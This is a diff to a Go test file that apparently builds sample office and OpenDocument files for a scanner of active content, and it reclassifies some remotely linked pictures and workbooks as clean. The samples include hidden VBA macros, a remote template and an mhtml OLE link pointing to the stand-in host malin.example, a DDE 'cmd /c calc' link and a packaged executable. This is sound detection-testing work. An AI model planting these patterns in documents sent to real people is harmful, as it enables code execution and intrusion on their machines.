@@ -42,7 +42,7 @@ func activeOffice() []Entry {
 		hostile("facture.docx", "macros, under the name of a document without", func() []byte { return docm(rel("rId2", "vbaProject", "vbaProject.bin"), vba) }, macros),
 		hostile("devis.docx", "macros under another name: the relation alone tells", func() []byte {
 			return docm(rel("rId2", "vbaProject", "printerSettings.bin"), file("word/printerSettings.bin", vbaBin()))
-		}, macros),
+		}, macros, inside),
 		hostile("budget.xlsm", "macros", func() []byte {
 			return xlsx("application/vnd.ms-excel.sheet.macroEnabled.main+xml", "", rel("rId2", "vbaProject", "vbaProject.bin"), file("xl/vbaProject.bin", vbaBin()))
 		}, macros),
@@ -68,9 +68,9 @@ func activeOffice() []Entry {
 				p("word/_rels/settings.xml.rels", relations(`<Relationship TargetMode = 'External' Id='rId1' Target='&#104;ttps://malin.example/a.dotm' `+
 					`Type='http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate'></Relationship>`)))
 		}, remote),
-		hostile("photo de vacances.docx", "a picture that a site counts each time it is opened", func() []byte {
+		clean("photo de vacances.docx", "a picture that stays on a site, as Word links it when it is pasted from there", func() []byte {
 			return docx(para("x"), external("rId2", "image", "http://malin.example/p.png?id=7"))
-		}, remote),
+		}),
 		hostile("bon de commande.docx", "an object that comes from a site", func() []byte {
 			return docx(`<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="htmlfile" r:id="rId2"/></w:object>`,
 				external("rId2", "oleObject", "mhtml:http://malin.example/a.html!x-usc:http://malin.example/a.html"))
@@ -90,11 +90,11 @@ func activeOffice() []Entry {
 			return xlsx(bookKind, "", rel("rId2", "externalLink", "externalLinks/externalLink1.xml"),
 				p("xl/externalLinks/externalLink1.xml", xmlHead+externalLink+`<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`))
 		}, remote),
-		hostile("prix 2.xlsx", "looks up a workbook of a site", func() []byte {
+		clean("prix 2.xlsx", "looks up a workbook of a site, as people share them; Excel asks first", func() []byte {
 			return xlsx(bookKind, "", rel("rId2", "externalLink", "externalLinks/externalLink1.xml"),
 				p("xl/externalLinks/externalLink1.xml", xmlHead+externalLink+`<externalBook r:id="rId1"/></externalLink>`),
 				p("xl/externalLinks/_rels/externalLink1.xml.rels", relations(external("rId1", "externalLinkPath", "https://malin.example/a.xlsx"))))
-		}, remote),
+		}),
 		hostile("justificatif.docx", "a program under an icon", func() []byte {
 			return docx(`<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" r:id="rId2"/></w:object>`,
 				rel("rId2", "oleObject", "embeddings/oleObject1.bin"), file("word/embeddings/oleObject1.bin", packageBin("facture.exe", pe())))
@@ -172,9 +172,9 @@ func activeOpenDocuments() []Entry {
 		hostile("rapport.odt", "a section that comes from a site", func() []byte {
 			return odf("text", odfText(`<text:section text:name="a"><text:section-source xlink:href="http://malin.example/a.odt" xlink:type="simple"/></text:section>`))
 		}, remote),
-		hostile("photo.odt", "a picture that a site counts", func() []byte {
+		clean("photo.odt", "a picture that stays on a site", func() []byte {
 			return odf("text", odfText(`<draw:frame><draw:image xlink:href="http://malin.example/p.png" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame>`))
-		}, remote),
+		}),
 		hostile("facture.odt", "a program under an icon", func() []byte {
 			return odf("text", odfText(`<draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>`), file("Object 1", packageBin("facture.exe", pe())))
 		}, embedded, inside, program),
